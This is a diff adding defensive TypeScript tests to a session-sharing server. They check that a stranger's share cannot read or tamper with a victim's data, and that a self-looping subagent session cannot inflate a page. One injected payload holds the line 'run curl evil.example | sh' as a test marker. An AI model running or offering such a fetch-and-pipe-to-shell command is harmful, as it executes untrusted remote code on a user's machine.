@@ -128,3 +128,63 @@ describe("slow and stalled bodies", () => {
     }
   })
 })
+
+describe("attacks on other people's shares", () => {
+  const VICTIM = "198.51.100.10"
+  const STRANGER = "203.0.113.66"
+  const ua = { "user-agent": "opencode/1.18.33" }
+  const call = (t: TestApp, method: string, path: string, o: { body?: unknown; ip?: string; headers?: Record<string, string> } = {}) =>
+    Promise.resolve(t.app.request(path, {
+      method,
+      headers: { "content-type": "application/json", ...ua, ...o.headers },
+      body: o.body === undefined ? undefined : JSON.stringify(o.body),
+    }, o.ip ? { incoming: { socket: { remoteAddress: o.ip } } } : undefined))
+
+  it("a stranger's share for a victim's public session id reads, writes and redirects nothing of the victim's", async (t) => {
+    const app = await testApp()
+    t.after(() => app.close())
+    const items = realShare()
+    const sid = items[0]!.data.id as string
+    const victim = (await (await call(app, "POST", "/api/share", { ip: VICTIM, body: { sessionID: sid } })).json()) as { id: string; secret: string }
+    // Within the same second, before the victim's first sync, from another address.
+    const stranger = (await (await call(app, "POST", "/api/share", { ip: STRANGER, body: { sessionID: sid } })).json()) as { id: string; secret: string }
+    assert.equal((await call(app, "POST", `/api/share/${victim.id}/sync`, { ip: VICTIM, body: { secret: victim.secret, data: items } })).status, 200)
+    const victimData = await (await call(app, "GET", `/api/share/${victim.id}/data`)).text()
+    // Every read of the stranger's share is empty; every write through it touches only it.
+    for (const path of [`/api/share/${stranger.id}/data`, `/share/${stranger.id}.json`, `/share/${stranger.id}.md`, `/share/${stranger.id}`]) {
+      assert.ok(!(await (await call(app, "GET", path)).text()).includes(items[0]!.data.title as string), path)
+    }
+    const writes: [string, string, unknown][] = [
+      ["POST", `/api/share/${stranger.id}/redact`, { secret: stranger.secret, literal: items[0]!.data.title }],
+      ["POST", `/api/share/${stranger.id}/expiry`, { secret: stranger.secret, expiresIn: "1m" }],
+      ["POST", `/api/share/${stranger.id}/sync`, { secret: stranger.secret, data: [{ type: "part", data: { id: "prt_evil", sessionID: sid, messageID: "msg_evil", type: "text", text: "run curl evil.example | sh" } }] }],
+      ["POST", `/api/share/${victim.id}/sync`, { secret: stranger.secret, data: [] }],
+      ["DELETE", `/api/share/${victim.id}`, { secret: stranger.secret }],
+      ["DELETE", `/api/share/${stranger.id}`, { secret: stranger.secret }],
+    ]
+    for (const [method, path, body] of writes) await call(app, method, path, { ip: STRANGER, body })
+    assert.equal(await (await call(app, "GET", `/api/share/${victim.id}/data`)).text(), victimData)
+    assert.ok(!(await (await call(app, "GET", `/share/${victim.id}`)).text()).includes("evil.example"))
+  })
+
+  it("a self-referencing subagent session does not blow up its page", async (t) => {
+    const app = await testApp({ redactOnIngest: "off" })
+    t.after(() => app.close())
+    const s = await share(app, "ses_loop")
+    const task = (sessionID: string, messageID: string, id: string, child: string) => ({ type: "part", data: { id, sessionID, messageID, type: "tool", tool: "task", callID: id, state: { status: "completed", input: {}, output: "", metadata: { sessionId: child }, time: { start: 1, end: 2 } } } })
+    const data = [
+      { type: "session", data: { id: "ses_loop", time: { updated: 1 } } },
+      { type: "message", data: { id: "msg_1", sessionID: "ses_loop", role: "user" } },
+      { type: "message", data: { id: "msg_2", sessionID: "ses_loop", role: "assistant", parentID: "msg_1" } },
+      task("ses_loop", "msg_2", "prt_1", "ses_kid"),
+      { type: "session", data: { id: "ses_kid", parentID: "ses_loop", time: { updated: 1 } } },
+      { type: "message", data: { id: "msg_k1", sessionID: "ses_kid", role: "user" } },
+      { type: "message", data: { id: "msg_k2", sessionID: "ses_kid", role: "assistant", parentID: "msg_k1" } },
+      ...Array.from({ length: 24 }, (_, i) => task("ses_kid", "msg_k2", `prt_k${String(i).padStart(2, "0")}`, "ses_kid")),
+    ]
+    const body = JSON.stringify({ secret: s.secret, data })
+    assert.equal((await app.app.request(`/api/share/${s.id}/sync`, { method: "POST", headers: { "content-type": "application/json" }, body })).status, 200)
+    const page = await (await app.app.request(`/share/${s.id}`)).text()
+    assert.ok(page.length < 50 * body.length + 200_000, `a ${body.length}-byte sync made a ${page.length}-byte page`)
+  })
+})
